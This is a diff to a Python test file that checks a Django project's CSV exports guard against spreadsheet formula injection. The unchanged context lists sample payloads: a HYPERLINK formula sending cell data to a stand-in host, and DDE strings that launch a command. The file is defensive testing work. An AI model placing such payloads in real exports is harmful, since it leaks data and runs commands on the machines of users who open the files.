@@ -12,8 +12,9 @@ from django.utils import timezone
 from hypothesis import example, given, settings
 from hypothesis import strategies as st
 
-from sameday.audit import journal
+from sameday.audit import csv_cells, journal
 from sameday.audit.csv_cells import harmless
+from sameday.clients.sheets import cells as sheets
 from tests.test_boundaries import sources
 
 EVIL = ('=HYPERLINK("https://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
@@ -66,4 +67,5 @@ def test_whoever_writes_csv_asks_for_harmless_cells():
                for n in ast.walk(tree))
     }  # fmt: skip
     assert "sameday/reports/trail_export.py" in writers, "the control: ours is seen"
-    assert [path for path, code in writers.items() if "csv_cells" not in code] == []
+    assert [path for path, code in writers.items() if "csv_cells" not in code and "cells.disarmed(" not in code] == []
+    assert sheets.BEGINS is csv_cells.BEGINS, "the clients' cells, which can be read back, know the same beginnings"
